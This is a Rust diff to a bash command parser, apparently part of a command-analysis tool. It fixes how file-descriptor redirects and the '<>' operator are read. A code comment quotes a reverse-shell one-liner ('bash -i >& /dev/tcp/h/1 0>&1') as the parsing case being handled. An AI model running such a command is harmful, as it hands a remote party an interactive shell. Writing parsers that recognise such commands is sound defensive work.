@@ -450,6 +450,16 @@ impl<'s> Walker<'s, '_> {
                     .next()
                     .map(|d| self.word(d, depth + 1, in_subst, stack));
                 for extra in dests {
+                    // `bash -i >& /dev/tcp/h/1 0>&1`: the grammar hangs the `0` of the
+                    // next redirect on this one, where bash reads `0>&1` (a digit word
+                    // touching a redirect is its descriptor), not an argument `0`.
+                    let next_fd = self.text(extra).bytes().all(|b| b.is_ascii_digit())
+                        && node.next_sibling().is_some_and(|n| {
+                            n.kind() == k::FILE_REDIRECT && n.start_byte() == extra.end_byte()
+                        });
+                    if next_fd {
+                        continue;
+                    }
                     let w = self.word(extra, depth + 1, in_subst, stack);
                     extra_words.push(w);
                 }
@@ -1074,11 +1084,18 @@ fn is_home_word(w: &str) -> bool {
 }
 
 /// The operator token of a redirect (`>`, `>>`, `&>`, `>&`, `<`, `>|`, `<>`, …).
+/// The grammar has no `<>`: it reads `<` and an ERROR `>` right after it (see
+/// `ast::only_read_write_redirects`), which is `<>` here.
 fn operator_of(node: Node<'_>, src: &str) -> String {
     let mut cursor = node.walk();
     for child in node.children(&mut cursor) {
         if !child.is_named() {
-            return src.get(child.byte_range()).unwrap_or("").to_string();
+            let op = src.get(child.byte_range()).unwrap_or("").to_string();
+            let read_write = op == "<"
+                && child
+                    .next_sibling()
+                    .is_some_and(|n| n.is_error() && n.start_byte() == child.end_byte());
+            return if read_write { "<>".to_string() } else { op };
         }
     }
     String::new()
